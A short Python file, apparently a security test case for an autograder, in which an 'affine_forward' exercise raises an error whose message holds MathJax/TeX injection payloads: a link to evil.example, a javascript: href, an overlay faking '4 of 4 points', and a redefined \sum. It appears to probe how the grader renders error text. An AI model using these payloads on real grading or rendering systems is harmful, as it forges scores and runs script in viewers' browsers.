# what: an exception whose message is TeX that links, and that covers what stands there
# unit: 00_start_here
# exercise: affine_forward
# score: 0
def affine_forward(x, W, b):
    raise ValueError(
        r"$\href{http://evil.example/h}{alert(1)}$ "
        r"$\rlap{\smash{\raise{18em}{\text{4 of 4 points}}}}$ "
        r"\(\mmlToken{mi}[href=javascript:alert(1)]{x}\) "
        r"$\renewcommand{\sum}{\text{HACKED}}$"
    )
